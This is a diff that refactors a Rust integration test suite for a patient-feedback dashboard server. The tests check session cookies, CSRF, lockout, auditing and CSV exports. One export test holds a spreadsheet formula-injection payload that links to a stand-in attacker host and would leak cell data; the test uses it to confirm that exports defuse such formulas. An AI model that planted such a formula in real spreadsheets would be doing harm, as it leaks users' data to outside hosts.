@@ -7,8 +7,7 @@ use std::{collections::BTreeMap, sync::Arc};
 
 use axum::{
     Router,
-    body::Body,
-    http::{Request, StatusCode, header},
+    http::{StatusCode, header},
 };
 use chorus_core::{
     ScoreReport,
@@ -17,11 +16,10 @@ use chorus_core::{
 use chorus_server::{AppState, Paths, dashboard, router, store::Store, users};
 use serde_json::json;
 use sqlx::Row;
-use tower::ServiceExt;
 
 mod common;
 
-use common::{Backend, TestDb, client::Client, rand_suffix};
+use common::{Backend, PASSWORD, TestDb, client::Client, rand_suffix, signed_in};
 
 async fn app_on(backend: Backend) -> Option<(Router, Arc<AppState>, TestDb)> {
     common::app_with(backend, "dash", |config| {
@@ -53,26 +51,36 @@ on_both!(
     equality_gaps_are_the_cores_and_characteristics_stay_apart,
 );
 
-const PASSWORD: &str = "correct horse battery";
-
-async fn signed_in(app: &Router, state: &AppState, email: &str, site: &str, role: &str) -> Client {
-    users::add(&state.store, email, PASSWORD, site, role)
-        .await
-        .unwrap();
-    let mut c = Client::new(app);
-    let p = c.sign_in(email, PASSWORD).await;
-    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
-    c
+async fn audit_actions(state: &AppState) -> Vec<(String, String, String)> {
+    common::rows(
+        &state,
+        "SELECT actor, action, detail FROM audit_log ORDER BY id",
+        &[],
+    )
+    .await
 }
 
-async fn audit_actions(state: &AppState) -> Vec<(String, String, String)> {
-    sqlx::query("SELECT actor, action, detail FROM audit_log ORDER BY id")
-        .fetch_all(state.store.pool())
-        .await
-        .unwrap()
-        .iter()
-        .map(|r| (r.get(0), r.get(1), r.get(2)))
-        .collect()
+/// The action of every audit entry, oldest first.
+async fn actions(state: &AppState) -> Vec<String> {
+    common::column(state, "SELECT action FROM audit_log ORDER BY id", &[]).await
+}
+
+/// The demo site's FFT return for `month`, as the signed-in `c` downloads it.
+async fn fft_return_csv(c: &mut Client, month: &str) -> String {
+    let uri = format!("/dashboard/exports/fft-return.csv?site=demo&month={month}");
+    c.get(&uri).await.want(StatusCode::OK).body
+}
+
+/// Who made each audit entry of `action`, oldest first.
+async fn actors(state: &AppState, action: &str) -> Vec<String> {
+    let sql = "SELECT actor FROM audit_log WHERE action = $1 ORDER BY id";
+    common::column(state, sql, &[action.into()]).await
+}
+
+/// The detail of each audit entry of `action`, oldest first.
+async fn details(state: &AppState, action: &str) -> Vec<String> {
+    let sql = "SELECT detail FROM audit_log WHERE action = $1 ORDER BY id";
+    common::column(state, sql, &[action.into()]).await
 }
 
 async fn seed(state: &Arc<AppState>) {
@@ -185,13 +193,7 @@ async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
         .await;
     assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
     assert_eq!(p.location(), "/dashboard");
-    let cookie = p
-        .headers
-        .get_all(header::SET_COOKIE)
-        .iter()
-        .map(|v| v.to_str().unwrap().to_string())
-        .find(|v| v.starts_with("chorus_session="))
-        .expect("a session cookie");
+    let cookie = p.set_cookie("chorus_session");
     assert!(
         cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
         "{cookie}"
@@ -199,13 +201,7 @@ async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
     // The token is 256 bits, and only its hash is stored.
     let token = cookie["chorus_session=".len()..cookie.find(';').unwrap()].to_string();
     assert_eq!(token.len(), 64);
-    let hashes: Vec<String> = sqlx::query("SELECT token_hash FROM sessions")
-        .fetch_all(state.store.pool())
-        .await
-        .unwrap()
-        .iter()
-        .map(|r| r.get(0))
-        .collect();
+    let hashes: Vec<String> = common::column(&state, "SELECT token_hash FROM sessions", &[]).await;
     assert_eq!(hashes.len(), 1);
     assert_ne!(hashes[0], token);
 
@@ -217,16 +213,13 @@ async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
 
     // Signing out ends the session on the server, not only in the browser.
     let csrf = home.csrf();
-    let out = c.post("/dashboard/logout", &[("csrf", &csrf)]).await;
-    assert_eq!(out.status, StatusCode::SEE_OTHER);
+    c.form("/dashboard/logout", &csrf, &[])
+        .await
+        .want(StatusCode::SEE_OTHER);
     let mut replay = Client::new(&app);
     replay.cookies.insert("chorus_session".into(), token);
     assert_eq!(replay.get("/dashboard").await.status, StatusCode::SEE_OTHER);
-    let actions: Vec<String> = audit_actions(&state)
-        .await
-        .into_iter()
-        .map(|a| a.1)
-        .collect();
+    let actions: Vec<String> = actions(&state).await;
     assert_eq!(actions, ["sign_in", "sign_out"]);
 
     // Behind TLS: Secure and the __Host- prefix.
@@ -253,13 +246,7 @@ async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
     );
     let mut t = Client::new(&tls);
     let p = t.sign_in("tls@trust.nhs.uk", PASSWORD).await;
-    let cookie = p
-        .headers
-        .get_all(header::SET_COOKIE)
-        .iter()
-        .map(|v| v.to_str().unwrap().to_string())
-        .find(|v| v.starts_with("__Host-chorus_session="))
-        .expect("a __Host- session cookie");
+    let cookie = p.set_cookie("__Host-chorus_session");
     assert!(
         cookie.contains("; Secure") && cookie.contains("Path=/;"),
         "{cookie}"
@@ -291,12 +278,7 @@ async fn a_wrong_password_is_refused_and_audited(app: Router, state: Arc<AppStat
     let p = c.sign_in("", "").await;
     assert_eq!(p.status, StatusCode::BAD_REQUEST);
     assert!(p.body.contains("Enter your email address and password"));
-    let failed: Vec<_> = audit_actions(&state)
-        .await
-        .into_iter()
-        .filter(|a| a.1 == "sign_in_failed")
-        .map(|a| a.0)
-        .collect();
+    let failed: Vec<_> = actors(&state, "sign_in_failed").await;
     // What was typed for an unknown account is not stored, only a short hash of it.
     assert_eq!(failed.len(), 2, "{failed:?}");
     assert_eq!(failed[0], "a@trust.nhs.uk");
@@ -328,11 +310,7 @@ async fn repeated_failures_lock_the_account(app: Router, state: Arc<AppState>) {
     assert_eq!(p.status, StatusCode::TOO_MANY_REQUESTS);
     assert!(p.headers.contains_key(header::RETRY_AFTER));
     assert!(!c.cookies.contains_key("chorus_session"));
-    let actions: Vec<String> = audit_actions(&state)
-        .await
-        .into_iter()
-        .map(|a| a.1)
-        .collect();
+    let actions: Vec<String> = actions(&state).await;
     assert_eq!(actions.iter().filter(|a| *a == "account_locked").count(), 1);
     // Another account from elsewhere is not affected...
     users::add(&state.store, "m@trust.nhs.uk", PASSWORD, "demo", "viewer")
@@ -344,20 +322,22 @@ async fn repeated_failures_lock_the_account(app: Router, state: Arc<AppState>) {
         StatusCode::SEE_OTHER
     );
     // ...and once the lock has run out, the right password works and clears the count.
-    sqlx::query("UPDATE login_failures SET locked_until = $1, last_failure = $1")
-        .bind("2000-01-01T00:00:00.000Z")
-        .execute(state.store.pool())
-        .await
-        .unwrap();
+    common::exec(
+        &state,
+        "UPDATE login_failures SET locked_until = $1, last_failure = $1",
+        &["2000-01-01T00:00:00.000Z".into()],
+    )
+    .await;
     assert_eq!(
         c.sign_in("l@trust.nhs.uk", PASSWORD).await.status,
         StatusCode::SEE_OTHER
     );
-    let left: i64 = sqlx::query("SELECT COUNT(*) FROM login_failures WHERE key LIKE 'account:%'")
-        .fetch_one(state.store.pool())
-        .await
-        .unwrap()
-        .get(0);
+    let left: i64 = common::value(
+        &state,
+        "SELECT COUNT(*) FROM login_failures WHERE key LIKE 'account:%'",
+        &[],
+    )
+    .await;
     assert_eq!(left, 0);
 }
 
@@ -369,16 +349,13 @@ async fn forms_without_the_right_csrf_token_change_nothing(app: Router, state: A
     let mut c = Client::new(&app);
     c.get("/dashboard/login").await;
     let p = c
-        .post(
+        .form(
             "/dashboard/login",
-            &[
-                ("csrf", "0000"),
-                ("email", "c@trust.nhs.uk"),
-                ("password", PASSWORD),
-            ],
+            "0000",
+            &[("email", "c@trust.nhs.uk"), ("password", PASSWORD)],
         )
-        .await;
-    assert_eq!(p.status, StatusCode::FORBIDDEN);
+        .await
+        .want(StatusCode::FORBIDDEN);
     assert!(p.body.contains("This form has expired"));
     assert!(!c.cookies.contains_key("chorus_session"));
 
@@ -401,13 +378,13 @@ async fn forms_without_the_right_csrf_token_change_nothing(app: Router, state: A
             .status,
         StatusCode::FORBIDDEN
     );
-    let r = c
-        .post(
-            "/dashboard/comments/1/tags",
-            &[("csrf", "wrong"), ("action", "add"), ("tag", "x")],
-        )
-        .await;
-    assert_eq!(r.status, StatusCode::FORBIDDEN);
+    c.form(
+        "/dashboard/comments/1/tags",
+        "wrong",
+        &[("action", "add"), ("tag", "x")],
+    )
+    .await
+    .want(StatusCode::FORBIDDEN);
     // Still signed in, and nothing was done.
     assert_eq!(c.get("/dashboard").await.status, StatusCode::OK);
     assert_eq!(audit_actions(&state).await.len(), before);
@@ -505,11 +482,7 @@ async fn bad_filters_get_a_clear_error(app: Router, state: Arc<AppState>) {
 /// alike: they share one CSV writer.
 async fn every_export_defuses_spreadsheet_formulas(app: Router, state: Arc<AppState>) {
     let evil = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")";
-    sqlx::query("INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, received_at) VALUES ('demo', $1, 'fft', 1, 'en', 'formula-key-0001', 'h', '{\"fft\":\"good\"}', '{\"instrument\":\"fft\",\"version\":1}', '2026-11-02T10:00:00.000Z')")
-        .bind(evil)
-        .execute(state.store.pool())
-        .await
-        .unwrap();
+    common::exec(&state, "INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, received_at) VALUES ('demo', $1, 'fft', 1, 'en', 'formula-key-0001', 'h', '{\"fft\":\"good\"}', '{\"instrument\":\"fft\",\"version\":1}', '2026-11-02T10:00:00.000Z')", &[evil.into()]).await;
     let service_cells = |csv_text: &str| -> Vec<String> {
         let mut r = csv::Reader::from_reader(csv_text.as_bytes());
         let at = r
@@ -755,13 +728,8 @@ async fn exports_parse_as_csv_and_match_the_stored_responses(app: Router, state:
         per_month.entry(r.3[..7].to_string()).or_default().push(r);
     }
     let (month, in_month) = per_month.iter().max_by_key(|(_, v)| v.len()).unwrap();
-    let p = c
-        .get(&format!(
-            "/dashboard/exports/fft-return.csv?site=demo&month={month}"
-        ))
-        .await;
-    assert_eq!(p.status, StatusCode::OK, "{}", p.body);
-    let mut r = csv::Reader::from_reader(p.body.as_bytes());
+    let csv = fft_return_csv(&mut c, month).await;
+    let mut r = csv::Reader::from_reader(csv.as_bytes());
     let head: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
     assert_eq!(head, dashboard::export::RETURN_HEADER);
     let mut total = 0u64;
@@ -799,10 +767,9 @@ async fn exports_parse_as_csv_and_match_the_stored_responses(app: Router, state:
     }
     assert!(seen >= 3);
     assert_eq!(total, in_month.len() as u64);
-    let exports: Vec<String> = audit_actions(&state)
+    let exports: Vec<String> = actions(&state)
         .await
         .into_iter()
-        .map(|a| a.1)
         .filter(|a| a.starts_with("export"))
         .collect();
     assert_eq!(exports, ["export_responses", "export_fft_return"]);
@@ -815,16 +782,8 @@ async fn comments_are_redacted_and_can_be_tagged(app: Router, state: Arc<AppStat
             "answers": {"fft": "poor", "why": why}}});
         let app = app.clone();
         async move {
-            let res = app
-                .oneshot(
-                    Request::post("/api/v1/responses")
-                        .header(header::CONTENT_TYPE, "application/json")
-                        .body(Body::from(body.to_string()))
-                        .unwrap(),
-                )
-                .await
-                .unwrap();
-            assert_eq!(res.status(), StatusCode::CREATED);
+            let (status, _) = common::post_submission(&app, &body, None).await;
+            assert_eq!(status, StatusCode::CREATED);
         }
     };
     post(
@@ -843,55 +802,36 @@ async fn comments_are_redacted_and_can_be_tagged(app: Router, state: Arc<AppStat
     );
     assert!(!page.body.contains("07700"));
     assert!(page.body.contains("The food was cold"));
-    let id: i64 = sqlx::query("SELECT id FROM responses WHERE idempotency_key = $1")
-        .bind("comment-0002")
-        .fetch_one(state.store.pool())
-        .await
-        .unwrap()
-        .get(0);
+    let id: i64 = common::value(
+        &state,
+        "SELECT id FROM responses WHERE idempotency_key = $1",
+        &["comment-0002".into()],
+    )
+    .await;
     let csrf = page.csrf();
     let uri = format!("/dashboard/comments/{id}/tags");
-    let p = c
-        .post(
-            &uri,
-            &[
-                ("csrf", &csrf),
-                ("action", "add"),
-                ("tag", "  Food  Quality "),
-            ],
-        )
-        .await;
-    assert_eq!(p.status, StatusCode::SEE_OTHER);
+    c.form(&uri, &csrf, &[("action", "add"), ("tag", " Food Quality ")])
+        .await
+        .want(StatusCode::SEE_OTHER);
     // Bad tags are a clear error and change nothing.
     let p = c
-        .post(
-            &uri,
-            &[("csrf", &csrf), ("action", "add"), ("tag", "<script>")],
-        )
-        .await;
-    assert_eq!(p.status, StatusCode::BAD_REQUEST);
+        .form(&uri, &csrf, &[("action", "add"), ("tag", "<script>")])
+        .await
+        .want(StatusCode::BAD_REQUEST);
     assert!(p.body.contains("Enter a tag of 1 to 40 letters"));
     let tagged = c.get("/dashboard/comments?tag=food+quality").await;
     assert!(tagged.body.contains("The food was cold"));
     assert!(!tagged.body.contains("[phone number]"));
-    let p = c
-        .post(
-            &uri,
-            &[
-                ("csrf", &csrf),
-                ("action", "remove"),
-                ("tag", "food quality"),
-            ],
-        )
-        .await;
-    assert_eq!(p.status, StatusCode::SEE_OTHER);
+    c.form(
+        &uri,
+        &csrf,
+        &[("action", "remove"), ("tag", "food quality")],
+    )
+    .await
+    .want(StatusCode::SEE_OTHER);
     let tagged = c.get("/dashboard/comments?tag=food+quality").await;
     assert!(tagged.body.contains("No comments match this filter."));
-    let actions: Vec<String> = audit_actions(&state)
-        .await
-        .into_iter()
-        .map(|a| a.1)
-        .collect();
+    let actions: Vec<String> = actions(&state).await;
     assert!(
         actions.contains(&"tag_added".to_string()) && actions.contains(&"tag_removed".to_string())
     );
@@ -902,25 +842,17 @@ async fn a_retention_run_deletes_old_responses_and_is_audited(app: Router, state
     // Ten responses made older than the demo site's 730 days; one of them tagged.
     let old: Vec<i64> = stored(&state).await.iter().take(10).map(|r| r.0).collect();
     for id in &old {
-        sqlx::query("UPDATE responses SET received_at = $1 WHERE id = $2")
-            .bind("2020-01-01T00:00:00.000Z")
-            .bind(*id)
-            .execute(state.store.pool())
-            .await
-            .unwrap();
+        common::exec(
+            &state,
+            "UPDATE responses SET received_at = $1 WHERE id = $2",
+            &["2020-01-01T00:00:00.000Z".into(), (*id).into()],
+        )
+        .await;
     }
-    sqlx::query("INSERT INTO comment_tags (response_id, tag, added_at) VALUES ($1, 'old', '2020-01-02T00:00:00.000Z')")
-        .bind(old[0])
-        .execute(state.store.pool())
-        .await
-        .unwrap();
+    common::exec(&state, "INSERT INTO comment_tags (response_id, tag, added_at) VALUES ($1, 'old', '2020-01-02T00:00:00.000Z')", &[(old[0]).into()]).await;
     assert_eq!(chorus_server::apply_retention(&state).await, 10);
     assert_eq!(state.store.count().await.unwrap(), 200);
-    let tags: i64 = sqlx::query("SELECT COUNT(*) FROM comment_tags")
-        .fetch_one(state.store.pool())
-        .await
-        .unwrap()
-        .get(0);
+    let tags: i64 = common::value(&state, "SELECT COUNT(*) FROM comment_tags", &[]).await;
     assert_eq!(tags, 0, "tags go with their response");
     let audit = audit_actions(&state).await;
     assert!(audit.contains(&(
@@ -952,15 +884,9 @@ async fn reports_and_exports_read_more_than_one_page(app: Router, state: Arc<App
     seed(&state).await;
     // 210 seeded responses copied ten times over: more than one page (2,000 rows) to read.
     for copy in 1..=10 {
-        sqlx::query(
-            "INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, score_mismatch, received_at)
+        common::exec(&state, "INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, score_mismatch, received_at)
              SELECT site, service, instrument, version, locale, idempotency_key || $1, body_hash, answers, scores, score_mismatch, received_at
-             FROM responses WHERE idempotency_key LIKE 'seed-%' AND idempotency_key NOT LIKE '%-copy-%'",
-        )
-        .bind(format!("-copy-{copy}"))
-        .execute(state.store.pool())
-        .await
-        .unwrap();
+             FROM responses WHERE idempotency_key LIKE 'seed-%' AND idempotency_key NOT LIKE '%-copy-%'", &[(format!("-copy-{copy}")).into()]).await;
     }
     // Rows written behind the store's back are rolled up as an operator would after such
     // a change (`chorus rollup rebuild`); reports read the rollups, exports the rows.
@@ -1014,12 +940,7 @@ async fn configuration_changes_are_audited(app: Router, state: Arc<AppState>) {
         record("[[sites]]\nid = \"demo\"\nretention_days = 30").await,
         "a change is"
     );
-    let changes: Vec<String> = audit_actions(&state)
-        .await
-        .into_iter()
-        .filter(|a| a.1 == "config_changed")
-        .map(|a| a.2)
-        .collect();
+    let changes: Vec<String> = details(&state, "config_changed").await;
     // One entry per site per change, each about its own site only.
     assert_eq!(changes.len(), 4, "{changes:?}");
     assert!(
@@ -1060,13 +981,8 @@ async fn the_fft_return_counts_each_mode_of_collection(app: Router, state: Arc<A
     let mut c = signed_in(&app, &state, "modes@trust.nhs.uk", "demo", "analyst").await;
     let month = crate::dashboard::now_secs();
     let month = &chorus_server::store::iso_utc(month)[..7];
-    let p = c
-        .get(&format!(
-            "/dashboard/exports/fft-return.csv?site=demo&month={month}"
-        ))
-        .await;
-    assert_eq!(p.status, StatusCode::OK, "{}", p.body);
-    let mut r = csv::Reader::from_reader(p.body.as_bytes());
+    let csv = fft_return_csv(&mut c, month).await;
+    let mut r = csv::Reader::from_reader(csv.as_bytes());
     let mut rows: BTreeMap<String, Vec<u64>> = BTreeMap::new();
     for rec in r.records() {
         let rec = rec.unwrap();
@@ -1271,12 +1187,7 @@ async fn paper_cards_are_keyed_once_tallied_undone_and_audited(app: Router, stat
         .map(|x| (5..12).map(|i| x[i].to_string()).collect())
         .collect();
     assert_eq!(paper, [["3", "0", "0", "2", "0", "1", "6"]]);
-    let details: Vec<String> = audit_actions(&state)
-        .await
-        .into_iter()
-        .filter(|a| a.1 == "paper_tally")
-        .map(|a| a.2)
-        .collect();
+    let details: Vec<String> = details(&state, "paper_tally").await;
     assert!(details[0].starts_with("6 cards stored"), "{details:?}");
     assert!(
         details[1].starts_with("0 cards stored (6 already stored"),
